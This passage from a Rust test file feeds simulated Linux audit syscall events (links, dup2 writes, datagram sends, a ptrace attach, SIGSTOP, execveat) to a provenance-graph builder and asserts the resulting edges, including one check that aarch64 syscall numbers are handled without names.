    );
    // link: NORMAL (old), PARENT, CREATE (new name, same inode); symlink: PARENT, CREATE.
    sim.push(
        Ev::new("link", &p)
            .path("c.txt", 11, "NORMAL")
            .path("/work/", 2, "PARENT")
            .path("hard.txt", 11, "CREATE"),
    );
    sim.push(
        Ev::new("symlinkat", &p)
            .arg(1, 0xffff_ff9c)
            .path("/work/", 2, "PARENT")
            .path("sym", 12, "CREATE"),
    );
    sim.push(
        Ev::new("mknodat", &p)
            .arg(0, 0xffff_ff9c)
            .path("/work/", 2, "PARENT")
            .path("fifo", 13, "CREATE"),
    );
    // dup2(3, 7) then write(7) reaches o2.txt.
    sim.push(Ev::new("dup2", &p).arg(0, 3).arg(1, 7).exit(7));
    sim.push(Ev::new("write", &p).arg(0, 7).exit(5));
    // socketpair and sendto/recvfrom with a datagram peer.
    sim.push(Ev::new("socketpair", &p).record("FD_PAIR", &[("fd0", "8"), ("fd1", "9")]));
    sim.push(
        Ev::new("sendto", &p)
            .arg(0, 10)
            .sockaddr(inet("192.0.2.1", 53)),
    );
    sim.push(
        Ev::new("recvfrom", &p)
            .arg(0, 10)
            .sockaddr(inet("192.0.2.1", 53)),
    );
    // ptrace(PTRACE_ATTACH, 200) with OBJ_PID; tgkill(200, 200, SIGSTOP).
    sim.push(
        Ev::new("ptrace", &p)
            .arg(0, 16)
            .arg(1, 200)
            .record("OBJ_PID", &[("opid", "200"), ("ocomm", "victim")]),
    );
    sim.push(Ev::new("tgkill", &p).arg(0, 200).arg(1, 200).arg(2, 19));
    // execveat of a file by descriptor.
    sim.push(
        Ev::new("execveat", &p)
            .arg(0, 0xffff_ff9c)
            .image("/work/tool")
            .argv(&["tool"])
            .path("tool", 14, "NORMAL"),
    );
    let g = build_default(&sim);
    let edges: BTreeSet<(String, String, Op)> = g
        .edges()
        .iter()
        .map(|e| (g.label(e.src), g.label(e.dst), e.op))
        .collect();
    let has = |s: &str, d: &str, op: Op| {
        assert!(
            edges.contains(&(s.to_string(), d.to_string(), op)),
            "{s} -{op}-> {d} missing from {edges:#?}"
        )
    };
    has("app[100]", "/work/o2.txt", Op::Write);
    // Labels are the latest name: c.txt gained hard.txt.
    has("app[100]", "/work/hard.txt", Op::Create);
    has("app[100]", "/work/hard.txt", Op::Truncate);
    has("app[100]", "/work/o2.txt", Op::Truncate);
    has("app[100]", "/work/hard.txt", Op::Chown);
    has("app[100]", "/work/hard.txt", Op::Link);
    has("app[100]", "/work/sym", Op::Link);
    has("app[100]", "/work/fifo", Op::Create);
    has("app[100]", "socketpair:1012", Op::Pipe);
    has("app[100]", "192.0.2.1:53", Op::Send);
    has("192.0.2.1:53", "app[100]", Op::Recv);
    has("app[100]", "victim[200]", Op::Ptrace);
    has("app[100]", "victim[200]", Op::Kill);
    has("/work/tool", "tool[100]", Op::Exec);
    has("app[100]", "tool[100]", Op::Exec);
    assert!(
        !edges.contains(&("/work/o2.txt".into(), "app[100]".into(), Op::Read)),
        "O_WRONLY"
    );
    let c = g.files_named("/work/c.txt");
    assert_eq!(
        g.node(c[0]).as_file().unwrap().paths,
        ["/work/c.txt", "/work/hard.txt"]
    );
    let chown = g.edges().iter().find(|e| e.op == Op::Chown).unwrap();
    assert_eq!(g.detail(chown), Some("owner 0:-"));
    let kill = g.edges().iter().find(|e| e.op == Op::Kill).unwrap();
    assert_eq!(g.detail(kill), Some("SIGSTOP"));
    let pt = g.edges().iter().find(|e| e.op == Op::Ptrace).unwrap();
    assert_eq!(g.detail(pt), Some("ATTACH"));
    // Writes through o2.txt's descriptor after dup2 count.
    assert_eq!(
        g.edges()
            .iter()
            .filter(|e| g.label(e.dst) == "/work/o2.txt" && e.op == Op::Write)
            .count(),
        2
    );
}

#[test]
fn aarch64_numbers_without_names() {
    let mut sim = Sim::new(T0);
    sim.names = false;
    let mut p = Proc::new(100, 1, "/usr/bin/app");
    sim.create(&mut p, "/tmp/a", 1);
    for ev in &mut sim.events {
        let sc = ev.syscall.as_mut().unwrap();
        sc.arch = "c00000b7".into();
        sc.number = 56; // openat on aarch64
    }
    let g = build_default(&sim);
    assert_eq!(g.edges().iter().filter(|e| e.op == Op::Create).count(), 1);
}
